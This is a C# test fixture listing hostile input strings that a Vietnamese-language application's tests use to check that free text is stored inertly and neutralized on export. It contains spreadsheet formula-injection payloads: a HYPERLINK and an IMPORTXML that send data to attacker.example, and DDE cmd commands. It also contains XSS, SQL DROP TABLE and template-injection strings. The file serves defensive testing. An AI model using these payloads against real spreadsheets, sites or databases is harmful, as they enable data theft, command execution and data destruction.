namespace ChuyenHoa.Testing;

/// <summary>
/// Free text that spreadsheet programs or browsers would run if it reached them raw: formulas (CSV/XLSX injection)
/// and markup. Stored as text, it must come back as the same text and never run; exports neutralize it.
/// </summary>
public static class HostileText
{
    public static IReadOnlyList<string> Formulas { get; } =
    [
        "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Bấm vào đây\")",
        "=1+1",
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "=cmd|' /C notepad'!'A1'",
        "\t=IMPORTXML(\"http://attacker.example\",\"//a\")",
        "\r=1+2",
        "=\"Chiềng Khoang\"&CHAR(10)&\"đạt\"",
    ];

    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>alert('xss')</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "javascript:alert(document.cookie)",
        "'; DROP TABLE proposals; --",
        "{{7*7}} ${7*7} <%= 7*7 %>",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Formulas, .. Markup];
}
